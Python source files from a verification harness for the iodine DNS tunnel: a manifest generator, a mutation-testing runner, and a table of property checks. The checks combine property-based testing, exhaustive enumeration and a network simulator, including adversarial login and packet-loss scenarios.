#!/usr/bin/env python3
"""gen_manifest.py -- writes MANIFEST.json from props_table.py (claimed checks) and NOT_APPLICABLE below."""
import json, os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from props_table import PROPS

ALL = ['C%02d' % i for i in range(1, 21)]
NOT_YET = {}  # id -> reason (properties not claimed)

LEVEL_TEXT = {}

def main():
    checks = []
    for pid in ALL:
        if pid not in PROPS:
            continue
        P = PROPS[pid]
        checks.append({
            'property_id': pid,
            'quick_cmd': './check %s --tier quick' % pid,
            'thorough_cmd': './check %s --tier thorough' % pid,
            'evidence_file': 'evidence/%s.json' % pid,
            'replay_cmd_template': './check %s --replay {path}' % pid,
            'engine': P.get('engine_text', ''),
            'level_claimed': {
                'category': 'exploration',
                'text': P.get('level_text', 'Generated-input search against an explicit oracle; bounded sub-domains that the property names are enumerated completely and flagged exhaustive in the evidence. Gives falsification power inside the stated bounds, not absence of violations outside them.'),
                'design_ref': 'DESIGN.md section 5, ' + pid,
            },
            'level_note': '; '.join(P.get('trusted_base', [])) + ' | assumptions: ' + '; '.join(P.get('assumptions', [])),
            'technique': P.get('technique', 'property-based testing (rapidcheck over choice tapes) with an explicit oracle'),
        })
    na = []
    for pid in ALL:
        if pid not in PROPS:
            na.append({'property_id': pid, 'reason': NOT_YET.get(pid, 'check not built yet in this round (planned in DESIGN.md section 5); not claimed')})
    m = {
        'version': 1,
        'setup_cmd': './check --setup',
        'hooks': {
            'guard': 'IODINE_VERIF',
            'enable': 'no hooks inside /repo: vbuild.py compiles /repo/src/*.c from the working tree with -DIODINE_VERIF -include /verif/shim/sim_shim.h (function-like macros redirect libc calls to the simulator)',
            'baseline_off_cmd': 'make -C /repo test',
            'source_commits': [],
            'add_only': True,
        },
        'engines': [
            {'name': 'rapidcheck', 'path': '/usr/include/rapidcheck.h', 'serves_properties': [p for p in ALL if p in PROPS and PROPS[p].get('engine', 'rc') == 'rc'], 'kind_free_text': 'property-based testing library (generation + shrinking of choice tapes)'},
            {'name': 'libFuzzer', 'path': 'clang -fsanitize=fuzzer', 'serves_properties': [p for p in ALL if p in PROPS and PROPS[p].get('engine') == 'fuzz'], 'kind_free_text': 'coverage-guided fuzzing with the oracle inside the target'},
            {'name': 'simnet', 'path': 'sim/simnet.cc', 'serves_properties': [p for p in ALL if p in PROPS and PROPS[p].get('images')], 'kind_free_text': 'deterministic OS/UDP/tun/clock simulator hosting the real iodine and iodined main() as coroutines'},
        ],
        'checks': checks,
        'not_applicable': na,
        'notes': 'All checks rebuild the code under test from /repo\'s working tree (content-hash keyed). Known findings: known_findings.json. See DESIGN.md.',
    }
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'MANIFEST.json'), 'w') as f:
        json.dump(m, f, indent=1)

if __name__ == '__main__':
    main()
