#!/usr/bin/env python3
"""mut.py -- sensitivity protocol (DESIGN.md section 7).
   ./mut.py <patch-file> <ID> [<ID>...] [--tier quick] [--seeds 1,2,3]
Copies the repository to a scratch tree outside /repo and /verif, applies the patch, checks that it
still compiles and passes the repository's own test suite, runs the listed checks against the scratch
tree (VERIF_REPO) and reports detected / missed.  Nothing is written under /verif/replays or /verif/evidence.
"""
import sys, os, subprocess, shutil, tempfile, time

VERIF = os.path.dirname(os.path.abspath(__file__))

def main():
    a = sys.argv[1:]
    patch = os.path.abspath(a[0])
    ids = [x for x in a[1:] if not x.startswith('--')]
    tier = 'quick'
    seeds = [1]
    notest = '--notest' in a
    for i, x in enumerate(a):
        if x == '--tier': tier = a[i + 1]
        if x == '--seeds': seeds = [int(v) for v in a[i + 1].split(',')]
    ids = [x for x in ids if x not in (tier,) and not x.replace(',', '').isdigit()]
    scratch = tempfile.mkdtemp(prefix='iodine-mut.', dir='/var/tmp')
    out = tempfile.mkdtemp(prefix='iodine-mut-out.', dir='/var/tmp')
    try:
        repo = os.path.join(scratch, 'repo')
        subprocess.run(['git', 'clone', '-q', '/repo', repo], check=True)
        # carry over uncommitted state of /repo's tracked files? no: mutants are relative to HEAD
        r = subprocess.run(['git', '-C', repo, 'apply', patch], stderr=subprocess.PIPE, text=True)
        if r.returncode != 0:
            r = subprocess.run(['patch', '-p1', '-d', repo, '-i', patch], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
            if r.returncode != 0:
                print('PATCH-FAILED', r.stdout); return 2
        if not notest:
            r = subprocess.run(['make', '-C', repo, 'test'], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
            ok = r.returncode == 0 and '100%' in r.stdout
            print('unit suite on mutant:', 'PASS' if ok else 'FAIL')
            if not ok:
                print(r.stdout[-1500:])
                return 3
        env = dict(os.environ, VERIF_REPO=repo, VERIF_OUT=out)
        res = {}
        for pid in ids:
            for sd in seeds:
                t0 = time.time()
                env['VERIF_SEED'] = str(sd)
                r = subprocess.run([os.path.join(VERIF, 'check'), pid, '--tier', tier], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env)
                line = [l for l in r.stdout.splitlines() if l.startswith(('VIOLATION', 'OK', 'CHECK-', 'KNOWN'))]
                print('%s seed=%d exit=%d %.0fs %s' % (pid, sd, r.returncode, time.time() - t0, ' | '.join(line)[:400]))
                res.setdefault(pid, []).append(r.returncode)
        for pid, v in res.items():
            print('RESULT %s %s' % (pid, 'DETECTED' if all(x == 1 for x in v) else ('PARTIAL' if any(x == 1 for x in v) else 'MISSED')))
        return 0
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
        shutil.rmtree(out, ignore_errors=True)

if __name__ == '__main__':
    sys.exit(main())
