"""props_table.py -- one entry per claimed property: how to build and run its check."""

UNIT = ['unit_api', 'base32', 'base64', 'base64u', 'base128', 'encoding', 'common', 'dns', 'read',
        'login', 'md5', 'user', 'fw_query', 'tun']
TB_COMMON = ['clang 14 ASan/UBSan runtimes', 'rapidcheck (generation and shrinking of choice tapes)',
             'sim/harness.cc (tape -> case decoding, statistics)']

PROPS = {}

PROPS['C07'] = dict(
    bin='c07', sources=['props/c07.cc', 'sim/harness.cc'], unit_objs=UNIT, engine='rc',
    enum_parts=4, exhaustive_claim=True,
    quick=dict(workers=4, cases=200000, budget=40, min_nontrivial=1000),
    thorough=dict(workers=12, cases=1500000, budget=900, min_nontrivial=100000),
    rule='case = (codec, byte string 0..4096 from 6 content classes, output capacity chosen below/around/above the '
         'needed size, chunk capacities, decoder capacity); non-trivial iff len>=1 and (capacity < needed, or len not '
         'a multiple of the block size, or a byte >= 0x80 present); distinct = hash of the effective choice tape. '
         'Enumerated parts are counted per (codec,input,capacity).',
    exhaustive_text='all inputs of length 0..2 x capacities 0..2len+4; all 65536 adjacent byte pairs at every block '
                    'offset inside a 3-block message; every length 0..4096 x {00,ff,counting} x capacity windows; '
                    'all four codecs; b32_5to8/b32_8to5 for all 32 values',
    engine_text='rapidcheck over choice tapes + exhaustive enumerators, unit shape (base*_ops via glue/unit_api.c), ASan+UBSan',
    bounds='len <= 4096, capacity <= 2*len+4 ',
    trusted_base=TB_COMMON + ['glue/unit_api.c (thin wrappers over base*_ops)',
                              'vbuild.py regenerates base64u.c with the sed rule read from src/Makefile'],
    assumptions=['encoders are called with cap+1 bytes of output space (documented contract)',
                 'alphabet sets taken from the property statement; index order inside an alphabet is not judged'],
)

SIMSRC = ['sim/harness.cc', 'sim/scenario.cc', 'ref/refdns.cc', 'ref/refmisc.cc', 'ref/refproto.cc']
IMGS = ['srv', 'cli0', 'cli1', 'cli2']
TB_SIM = TB_COMMON + ['sim/simnet.cc model of UDP sockets, select(), tun device, time() and rand()',
                      'ref/refdns.cc, ref/refproto.cc, ref/refmisc.cc (independent oracles)', 'zlib']
AS_SIM = ['only numeric IPv4/IPv6 addressing; no ICMP errors, EINTR or partial tun writes are modelled',
          'Linux tun framing (4-byte header)', 'HAVE_SYSTEMD / HAVE_SETCON code is not compiled']

PROPS['C19'] = dict(
    bin='c19', sources=['props/c19.cc'] + SIMSRC, unit_objs=UNIT, images=IMGS, engine='rc',
    quick=dict(workers=4, cases=250000, budget=40, min_nontrivial=1000),
    thorough=dict(workers=16, cases=3000000, budget=900, min_nontrivial=100000),
    rule='unit case = (password 0..40 bytes from three byte classes, challenge from boundary/single-bit/uniform classes): '
         'login_calculate vs independent MD5 of pad32(password) xor 8 x big-endian challenge, plus metamorphic checks '
         '(every challenge bit and each of the first 32 password bytes matter, byte 33 does not, short output buffer '
         'untouched); system case (1 in 62) = real client + real server over simnet with raw mode: login message bytes '
         '1..16, client raw login (challenge+1) and server raw reply (challenge-1) compared on the wire, the challenge forced to a '
         'boundary value of rand() (0, 1, 2, 2^31-1, 2^31-2, ...) in two cases of three (class system:boundary-challenge); '
         'client case (1 in 62) = real client against the scripted reference server issuing any 32-bit challenge incl. >= 2^31, 0 and '
         '0xffffffff: L message = hash(challenge), raw login = hash(challenge+1 mod 2^32), client enters raw mode after hash(challenge-1). '
         'non-trivial iff password non-empty (unit) / all frames observed (system, client); distinct = hash of choice tape',
    engine_text='rapidcheck over choice tapes; unit shape + simnet (real iodine + iodined); passwords via -P or the environment, with % sequences; lost raw login replies (client repeats, server must answer again); password typed at the prompt (read_password on a replaced stdin); cut raw login after a complete one',
    bounds='password <= 40 bytes, 32-bit challenges sampled (boundary values always included) Round 5: server acceptance case (2..7 login attempts per session; only the documented digest is accepted); -P and environment both set. Round 9: stray datagram (late DNS answer / raw login frame with a foreign digest) during the raw login wait.',
    trusted_base=TB_SIM + ['refmd5 self-tested against the RFC 1321 vectors at start-up'],
    assumptions=AS_SIM + ['MD5 collisions (2^-128) ignored'],
)

PROPS['C18'] = dict(
    bin='c18', sources=['props/c18.cc', 'sim/harness.cc', 'sim/scenario.cc', 'ref/refdns.cc', 'ref/refmisc.cc', 'ref/refproto.cc'], unit_objs=UNIT, images=['srv', 'cli0', 'cli1', 'cli2'], engine='rc',
    enum_parts=8, exhaustive_claim=True,
    quick=dict(workers=4, cases=120000, budget=40, min_nontrivial=1000, enum_arg=1),
    thorough=dict(workers=8, cases=2000000, budget=600, min_nontrivial=50000, enum_arg=2),
    rule='case = (netmask 8..30, network base from 7 fixed bases or random, server host position from '
         '{first 20, last 4, middle, random}, per-slot liveness pattern); oracle = statement computed in host byte '
         'order: count = min(16, size-3), addresses distinct / in subnet / not server, network or broadcast, lookup '
         'returns the slot iff active+authenticated+seen<60s, -1 for server/network/broadcast/unassigned. non-trivial iff '
         'the server sits within the first 18 host positions (skip logic exercised) or the subnet has <= 32 addresses; 1 case in 3 is a history: slots are handed out by find_available_user, logged in, refreshed, left silent for 1..70 s and handed out again; after every step each tunnel address must resolve to its slot exactly when the slot\'s current session is logged in and has not been silent for more than 60 s (never when unused, not logged in or silent >= 61 s; the model runs on whole seconds like the server clock, steps include 59 / 60 / 61 s), and a slot active within the last 60 s is never handed out; '
         'distinct = hash of (mask, base, position) / choice tape',
    exhaustive_text='every host position (incl. network and broadcast positions) for 10.0.0.0/20../21 (quick) or /16../21 (thorough) and for 7 bases x /22../30; '
                    '14 boundary positions for every other (mask, base) pair',
    engine_text='exhaustive enumerator + rapidcheck, unit shape, time() from the simulator clock',
    bounds='netmask 8..30 (range enforced by iodined)',
    trusted_base=TB_COMMON + ['glue/unit_api.c accessors for users[]'],
    assumptions=['liveness band: silent 62 s = expired, <= 58 s = live; the 58..62 s band is not judged'],
)

PROPS['C17'] = dict(
    bin='c17', sources=['props/c17.cc'] + SIMSRC, unit_objs=UNIT, images=IMGS, engine='rc',
    enum_parts=7, exhaustive_claim=True,
    quick=dict(workers=4, cases=250000, budget=40, min_nontrivial=1000, enum_arg=1),
    thorough=dict(workers=8, cases=3000000, budget=600, min_nontrivial=50000, enum_arg=2),
    rule='validation case = constructed domain (labels of 1..12/63/64/60..66 chars, optional leading *, then one of: trailing '
         'dot, leading dot, double dot, foreign byte, padding to 128..130, truncation to 0..4) x wildcard flag; matching case = '
         '(valid plain or wildcard domain, query name built as: inside / glued without dot / exactly the domain / suffix minus '
         'first char / unrelated / ~250 chars, with random case flips and hostile bytes); oracle = label-wise reference '
         '(ref/refmisc.cc): accept/reject equality and equality of the data length. non-trivial iff the name shares a suffix '
         'of >= 3 characters with the domain (matching) or the string has >= 3 characters (validation)',
    exhaustive_text='all strings of length <= 7 over {a,A,b,-,.,*,0} x wildcard flag for validation (1.92 M); all names of '
                    'length <= 7 (quick) / <= 8 (thorough) without empty labels against 13 domains for matching; '
                    '63/64-char label and 128/129-char total boundary constructions',
    engine_text='exhaustive enumerator + rapidcheck, unit shape; 1 case in 300: dispatch by the real iodined with -b (NS queries for generated names: under the domain -> answered by iodined and not relayed, otherwise relayed and not answered)',
    bounds='names <= 255 characters',
    trusted_base=TB_COMMON + ['ref/refmisc.cc label-wise reference'],
    assumptions=['query names never contain empty labels (the name reader cannot produce them)'],
)

IMGS_EARLY = ['srv', 'cli0', 'cli1', 'cli2']
PROPS['C08'] = dict(
    bin='c08', sources=['props/c08.cc', 'sim/harness.cc', 'sim/scenario.cc', 'sim/monitors.cc', 'ref/refmisc.cc', 'ref/refdns.cc', 'ref/refproto.cc'], unit_objs=UNIT, images=IMGS_EARLY, engine='rc',
    enum_parts=12, exhaustive_claim=True,
    quick=dict(workers=4, cases=200000, budget=40, min_nontrivial=1000, enum_arg=1),
    thorough=dict(workers=4, cases=2000000, budget=600, min_nontrivial=50000, enum_arg=2),
    rule='case = (L 100..255, valid tunnel domain of a chosen length 3..min(128,L-24) in three label layouts, codec, header '
         'length 1 or 5, payload 1..2048 bytes from 6 content classes, plain or wildcard server domain); the name is built '
         'by build_hostname in the client call shape, sent through dns_encode, parsed by the strict reference parser, decoded '
         'by dns_decode, matched by query_datalen and extracted by unpack_data in the server call shape; 1 case in 41 is a system case: the REAL client with a generated -M / codec / type / autoprobed fragment size runs against the real server over simnet and every name it passes to sendto() (version, login, codec tests, fragment-size probes, pings, data) must be <= -M characters and under the domain. non-trivial iff the '
         'chunk truncates the payload, or the encoded length is a multiple of 57, or L / domain length is at an extreme',
    exhaustive_text='every L in 100..255 x every domain length 3..min(128,L-24) x 4 codecs x payload lengths '
                    '{1,2,block-1,block,block+1,cap-1,cap,cap+1,2048}; header 1 or 5 (both in thorough) Round 7: one system case in three uses an 82-character tunnel domain with -M = domain + 24..32 (fixed-size handshake names at the limit).',
    engine_text='exhaustive grid + rapidcheck, unit shape; the real clients emitted names are additionally monitored in the simnet properties (C10 monitor)',
    bounds='payload <= 2048 bytes Round 5: client case against a scripted server refusing the codec switch; system case judges end-to-end extraction with last fragments of 1 and 2 bytes.',
    trusted_base=TB_COMMON + ['ref/refdns.cc strict parser', 'ref/refmisc.cc codecs and label-wise matcher', 'glue/unit_api.c'],
    assumptions=['alphabet index order of protocol 0x00000502 transcribed into ref/refmisc.cc (signature C08:refcodec only)'],
)

SIMSRC2 = SIMSRC + ['sim/monitors.cc']

PROPS['C01'] = dict(
    bin='c01', sources=['props/c01.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS, engine='rc',
    quick=dict(workers=8, cases=2500, budget=40, min_nontrivial=50),
    thorough=dict(workers=16, cases=40000, budget=1200, min_nontrivial=2000),
    rule='case = (configuration: query type incl. autodetect, forced/auto downstream codec, forced/auto fragment size 2..1300, '
         '-M 100..255, lazy, raw mode, 1..3 real clients, tunnel domain, wildcard server domain, netmask, IPv4/IPv6 transport) + '
         '(1..30 timed packet offers on server/client tun devices: to the peer, to another client, to nobody; 0..1400 (14/17), 0..3800 (2/17), 0..6000 (1/17) byte '
         'bodies of 6 content classes) + (per-datagram fault tape: drop/duplicate x1-3/delay up to 3 s, optionally one direction '
         'only, black-outs) for 1..40 virtual s, then a clean drain. Oracle: every tun write equals a packet read earlier '
         'from the tun device of a different instance. non-trivial iff the handshake completed, >=1 delivered packet needed '
         '>=2 fragments and >=1 fault decision hit. One case in six instead: real server + scripted conforming sender (<= 80 actions: pings, '
         'upstream packets <= 600 bytes fragment by fragment, re-deliveries, freezes) whose history contains seven consecutive packets lost '
         'entirely (3-bit sequence number comes round) followed by a crafted two-fragment packet, or a packet given up after its first fragment, '
         'seven lost, then its Adler-32-equivalent partner under the same number; oracle: every server tun write is a packet '
         'the sender completed or gave up; non-trivial iff >= 1 such wrap happened. One case in eight instead: real client + real server on a router that only drops, chosen by what it sees: calibration packet, one-fragment packet, '
         'then every answer is dropped while N in {7,15,6,8,3} one-fragment packets and the first fragment of a crafted two-fragment packet pass; oracle: every client '
         'tun write was offered on the server\'s tun; non-trivial iff the crafted packet\'s first fragment was seen and dropped. One such case in three is the merge variant (queries held back and released late, the server gives a packet up whose first fragment the client holds, seven packets lost, then its Adler-equivalent partner); when the partner\'s first fragment is lost too the case is known finding K3 / K4 (excluded by construction, counted). distinct = hash of the choice tape Round 6: one merge-game start in three of the scripted sender is the late-fragment game (no loss: a held-up copy of a last fragment arrives eight packets later between the fragments of the Adler-equivalent partner) -- open finding K5, excluded by construction and counted; one adversarial-network case in four is the late-answer case (the router duplicates the answer carrying a last fragment and releases the copy 6/7/8/15 packets later right behind a first fragment; non-trivial iff released after exactly 7 mod 8 packets).',
    engine_text='rapidcheck over choice tapes; simnet hosting real iodined + real iodine clients; ASan+UBSan; crafted adversarial packets (zlib stream of another packet at the second fragment\'s offset inside an incompressible packet)',
    bounds='<= 3 clients, <= 30 offers, packets <= 6000+24 bytes, <= 40 virtual s of faults, delays <= 3 s Round 9: upstream give-up game (real client gives a packet up, next first fragment lost, late acknowledgement, crafted contents).',
    trusted_base=TB_SIM,
    assumptions=AS_SIM + ['for ordinary (not crafted) contents a mis-assembled packet is stopped by zlib\'s Adler-32 and shows as a loss, which C01 allows; mis-assembly is only visible through the crafted content classes'],
)
PROPS['C02'] = dict(
    bin='c02', sources=['props/c02.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS, engine='rc',
    quick=dict(workers=8, cases=2000, budget=40, min_nontrivial=25),
    thorough=dict(workers=16, cases=30000, budget=1200, min_nontrivial=1000),
    rule='case = configuration as in C01 (one client; forced fragment sizes limited to what the answer format carries) + '
         'either (a) clean path, 1..40 offers with bursts and idle gaps up to 30 s (one case in four: one direction only, a packet every 2..15 s for up to several minutes): every accepted packet that fits 12 '
         'fragments (conservative capacity) must be written at the peer exactly once, in order, within 5 virtual s; or '
         '(b) fault phase of 1..40 virtual s (drop/dup/delay/black-out, optionally one direction), 15 s settling on a clean '
         'path, then 12 fresh packets each way of which the last 4 are judged: each delivered at least once, in order, within 10 s; neither program may exit; '
         'in one such case of three an application keeps offering 2..8 packets per second on the client tun device, the server tun device or both throughout (classes busy-*). '
         'non-trivial iff (a) >=1 multi-fragment delivery and >=1 idle gap > 4.5 s, (b) faults hit and >=6 deliveries. One case in twenty-four instead: real server + scripted conforming sender (history generator of the second shape of C01); a packet whose first fragment replaced the stored first fragment of a packet given up earlier (same 3-bit sequence number, seven packets lost in between) and whose fragments were all sent on a clean path must be written to the server\'s tun device; non-trivial iff >= 1 such packet was completed.',
    engine_text='rapidcheck over choice tapes; simnet (virtual clock owned by the harness turns liveness into bounded-horizon safety)',
    bounds='<= 40 offers, <= 40 virtual s of faults; time bounds are in virtual time Round 5: bulk upload of 62..75 s before the paced offers in half of the upstream one-way cases; boundary-size packets (last fragment of 1, 2, F-1, F bytes). One case in twelve: adversarial-network history (C01 third shape) + clean suffix of 12 packets each way, last 4 judged.',
    trusted_base=TB_SIM,
    assumptions=AS_SIM + ['"fits in 16 fragments" judged conservatively: compressed size <= 12 x Base32 fragment capacity'],
)

PROPS['C09'] = dict(
    bin='c09', sources=['props/c09.cc', 'sim/harness.cc', 'ref/refdns.cc', 'ref/refmisc.cc', 'ref/refproto.cc'],
    unit_objs=[], images=['gsrv', 'gcli'], engine='rc',
    enum_parts=14, exhaustive_claim=True,
    quick=dict(workers=2, cases=100000, budget=40, min_nontrivial=1000, enum_arg=1),
    thorough=dict(workers=2, cases=1000000, budget=900, min_nontrivial=100000, enum_arg=2),
    rule='configuration = query type (7) x downstream codec letter (T,S,U,V,R; also combinations the document calls unsupported) '
         'x query-name length (8, 53, 253 chars) x caller buffer (4096 handshake / 65536 tunnel). Sweep: payload lengths '
         '2..4096 with contents {random, ff.., 00.., fragment-probe pattern, DOWNCODECCHECK1}: the server answer writer '
         '(write_dns) output is fed to the client reply reader (read_dns_withq); outcome must be exact, nothing or a proper '
         'prefix; exact lengths must form an initial segment per configuration and content; the outcome (class and number of bytes) must be the same for the three '
         'query-name lengths (fitting is a matter of the answer format, not of the echoed question); when the independent reference decoder extracts the whole payload from the server answer and the length is within the calibrated client capacity of that format, the client must deliver it exactly; random cases add arbitrary '
         'contents/ids. non-trivial iff the payload needs >= 2 TXT strings / >= 2 MX-SRV records / a dotted name, or lies '
         'within 2 of the largest exact length',
    exhaustive_text='thorough: every length 2..4096 x 5 contents x all 210 configurations; quick: lengths 2..320 + windows at '
                    'multiples of 252 + every 5th length, 2 contents Round 7: content independence -- a 0xff payload of the same length goes through the same configuration; exactly one of the two being delivered exactly is a violation.',
    engine_text='complete length sweeps + rapidcheck on the glue pair (static write_dns of iodined.c -> static read_dns_withq of client.c)',
    bounds='payload 2..4096 bytes Round 5: fourth query name with 63-character labels. Round 9: an answer cut short in transit followed by the same payload again.',
    trusted_base=TB_COMMON + ['glue/glue_server.c and glue/glue_client.c: textual inclusion of iodined.c / client.c; depend on the '
                              'signatures of write_dns and read_dns_withq', 'sim capture/feed of sendto/recvfrom'],
    assumptions=['Lmax floors (100 bytes for one hostname, 1000 otherwise) and the table of client buffer capacities per (type, codec, caller buffer) used by the fits-but-not-delivered oracle are calibrated on the unchanged tree'],
)

SES_RULE = ('case = real iodined (query type NULL/PRIVATE/TXT/SRV/MX/CNAME/A, tunnel domain) + scripted sessions speaking protocol 0x00000502 '
            '(independent implementation ref/refproto.cc; IPv4 or IPv6; lazy or immediate; downstream codec T/S/U/V/R or default; upstream '
            'codec Base32/64/64u/128; initial fragment size) + a generated history of actions: ping (honest / stale / ahead / unrelated '
            'acknowledgement), upstream data chunk, packet arriving on the server tun device for the session, fragment-size request, '
            're-delivery of an earlier query, time step from {0,5,19,21,100 ms,1,3,10 s}; then a drain of honest pings. ')
PROPS['C15'] = dict(
    bin='c15', sources=['props/c15.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS, engine='rc',
    quick=dict(workers=8, cases=4000, budget=40, min_nontrivial=50),
    thorough=dict(workers=16, cases=80000, budget=1200, min_nontrivial=5000),
    rule=SES_RULE + 'C15 mix: fragment sizes from {0,1,2,3,50,100,101,255,1200,4093..4096,65535,random 16-bit}, packets up to 20000 bytes, '
         'acknowledgement games, up to two expiries (silent 61-76 s) followed by a new login into the same slot, half of them without an N request. Oracle: every data answer carries <= F_current bytes after the 2-byte header (100 before any accepted size); '
         'sizes < 2 are answered BADFRAG; per packet fragment numbers are 0,1,2,.. each increment preceded by a matching acknowledgement; the '
         'last-fragment flag is set exactly on the fragment that completes the compressed packet the server read from its tun device. '
         'non-trivial iff a packet needed >= 3 fragments and a size was set by an accepted N request',
    engine_text='rapidcheck over choice tapes; simnet hosting the real iodined; scripted sessions (refproto); ASan+UBSan; up to 2 sessions with client-to-client packets',
    bounds='<= 2 sessions, <= 60 actions, packets <= 20000 bytes; numbering judged for packets that fit 16 fragments Round 5: new session on a recycled slot repeats a ping name of the earlier session. Round 9: re-deliveries of answered / pending queries (same windows as C16) anywhere in the history, in particular after an N request lowered the size (fix 892bace).',
    trusted_base=TB_SIM, assumptions=AS_SIM + ['zlib level-9 output is deterministic (the harness recomputes the compressed form of every packet the server read)'],
)
PROPS['C14'] = dict(
    bin='c14', sources=['props/c14.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS, engine='rc',
    quick=dict(workers=8, cases=4000, budget=40, min_nontrivial=50),
    thorough=dict(workers=16, cases=80000, budget=1200, min_nontrivial=5000),
    rule=SES_RULE + 'C14 mix: 1..3 sessions, duplicates of pending and answered queries with new ids / from other relay addresses, upstream packets addressed to another session (1 in 3 with several sessions), wildcard server domain (1 in 3) with re-deliveries of the same payload under another sub-domain, ping-shaped DNS responses (QR=1) that must not be answered. Oracle '
         '(credit accounting): every query the server read that parses (strict RFC 1035 parser) adds one credit (source, id, name, type); every '
         'answer the server emits must consume one unanswered matching credit; after every server step at most two distinct ping/data '
         'questions per session are unanswered. non-trivial iff a remembered duplicate of a pending query was answered together with the '
         'original, or a pending query was re-delivered while two queries were held Round 8: histories include slot re-use after 61..76 s of silence, half of them from another port of the same host.',
    engine_text='rapidcheck over choice tapes; simnet hosting the real iodined; scripted sessions (refproto); wire monitor; handshake-type requests mid-session',
    bounds='<= 3 sessions, <= 60 actions Round 5: infrastructure queries (ns/www A, NS, look-alikes).', trusted_base=TB_SIM, assumptions=AS_SIM + ['without -b (forwarded replies are C20)'],
)
PROPS['C16'] = dict(
    bin='c16', sources=['props/c16.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS, engine='rc',
    quick=dict(workers=8, cases=4000, budget=40, min_nontrivial=50),
    thorough=dict(workers=16, cases=80000, budget=1200, min_nontrivial=5000),
    rule=SES_RULE + 'C16 mix: re-deliveries chosen from the windows the property names (4 most recently answered; last 15 data / 30 ping; '
         'pending), 1..3 times, same or new id, same or other relay address, optional case change (Base32 names only). Oracles: upstream packets '
         'completed by the session are written to the server tun exactly once and in order and nothing else is written; the downstream stream '
         '(answers to original queries) starts every packet at fragment 0, continues contiguously, advances only after an original query '
         'acknowledged the current fragment after it was first sent, never rewinds; answers to re-deliveries never carry data not yet sent '
         'to an original; an identical repeat of one of the 4 most recently answered queries gets the same payload. non-trivial iff the case has '
         'a repeat in the cache window, one in the qmem window and one of a pending or last-fragment query. '
         'One case in five uses the REAL client instead (classes real-client:*): real iodine <-> relay <-> real iodined on an otherwise clean path, '
         'the relay (reference DNS implementation, ids rewritten, half of them randomising letter case from the start) repeats ping/data queries '
         'it forwarded, chosen from the same windows as seen from the relay (conservatively: every answer seen since and everything unanswered '
         'counts against the window), same or new id, same or second upstream address, case re-randomised, at once or up to 3 s later, and '
         'swallows the answers to its own repeats; oracles: every packet accepted on either tun device is written to the other exactly once, in '
         'order, byte-identical, nothing else is written (downstream loss is not judged in runs where a swallowed answer to a case-changed repeat '
         'carried new data: the server does not repeat single-fragment packets), and an identical repeat with a new id of one of the 4 most '
         'recently answered queries gets the payload of the original answer; such a case is non-trivial iff >= 3 repeats were sent and >= 2 packets delivered Round 7: one scripted session in four negotiates a fragment size of 1200..4094 (2047/2048/2049/4093/4094 included) and is offered packets up to 4600 bytes.',
    engine_text='rapidcheck over choice tapes; simnet hosting the real iodined; scripted session (refproto) or real iodine client behind a re-delivering relay',
    bounds='1 session, <= 90 actions (scripted); <= 40 offered packets (real client) Round 9: N requests mid-session (the server forgets cached answers when the size goes down); case-changed repeats aimed at fingerprints containing z.', trusted_base=TB_SIM,
    assumptions=AS_SIM + ['window sizes are reduced by the number of case-changed re-deliveries so far (each may legitimately be remembered as a new query)'],
)

ADV_RULE = ('case = real iodined (password 1..32 bytes incl. bytes >= 0x80, netmask /24../30 so that slots run out, source checking on or off, '
            'query type) + 2..5 source addresses (IPv4/IPv6) + a history of <= 80 steps: V (good/bad version), L with userid in/out of range and a '
            'hash that answers the current challenge / an earlier challenge of the slot / another slot\'s challenge / challenge+-1 / one bit '
            'flipped / random / too short, I, S, O, N, R, P, one-fragment data packets to the server or to another session, raw-mode login / '
            'data / ping frames, each optionally mutated (upper-case command, truncated, non-Base32 userid character), honest sessions '
            '(refproto) starting and sending packets in between, time steps 0.1 s .. 130 s. ')
PROPS['C03'] = dict(
    bin='c03', sources=['props/c03.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS, engine='rc',
    quick=dict(workers=8, cases=10000, budget=40, min_nontrivial=100),
    thorough=dict(workers=16, cases=150000, budget=1200, min_nontrivial=5000),
    rule=ADV_RULE + 'Oracle: the monitor learns (slot, challenge) from every VACK on the wire; a slot is logged in exactly from the moment a '
         'login carrying MD5(pad32(password) xor challenge) (independent MD5) for its current challenge is read by the server until the slot is '
         're-issued. Every tun write, every forwarded packet (bytes of an upstream packet showing up downstream or in a raw data frame), every '
         'address disclosure, accepted S/O/N request and raw login reply must be on behalf of a logged-in slot (raw login additionally needs the '
         'response to challenge+1). non-trivial iff >= 1 login succeeded, >= 1 request was refused and >= 1 attempt used a replayed or wrong-slot hash',
    engine_text='rapidcheck over choice tapes; simnet hosting the real iodined; adversarial scripted sources (refproto); wire-level monitor',
    bounds='<= 5 sources, <= 80 steps, <= 16 slots', trusted_base=TB_SIM + ['refmd5 self-tested against RFC 1321 vectors'],
    assumptions=AS_SIM + ['MD5 collisions ignored'],
)

PROPS['C20'] = dict(
    bin='c20', sources=['props/c20.cc'] + SIMSRC2, unit_objs=UNIT, images=IMGS, engine='rc',
    enum_parts=7, exhaustive_claim=True,
    quick=dict(workers=6, cases=40000, budget=40, min_nontrivial=100),
    thorough=dict(workers=16, cases=200000, budget=900, min_nontrivial=5000),
    rule='system case (2 in 3) = real iodined -b + 1..20 requesters (IPv4 pairs sharing an address, IPv6) + scripted local resolver + optional tunnel '
         'session; <= 80 actions: a requester asks for one of 9 names outside the tunnel domain (look-alikes of the domain included) with an id from '
         'a set of 3..20 ids (or 0) and one of 11 types; the resolver replies to one of the last 24 forwarded queries or with an id never forwarded, '
         'once or twice. Oracle: each request produces exactly one well-formed query with the same id, name, type at the local DNS port; a reply with '
         'id X is sent unchanged, at most once per copy, only to requesters that used X among the 16 most recently forwarded queries, to at least one '
         'of them, and to nobody if there is none; one datagram in six from the local DNS port is a runt of 1..11 bytes, which may reach at most the requester who asked with its first two bytes as id. unit case (1 in 3) = random put/get sequences on fw_query against the last-16 model. non-trivial iff '
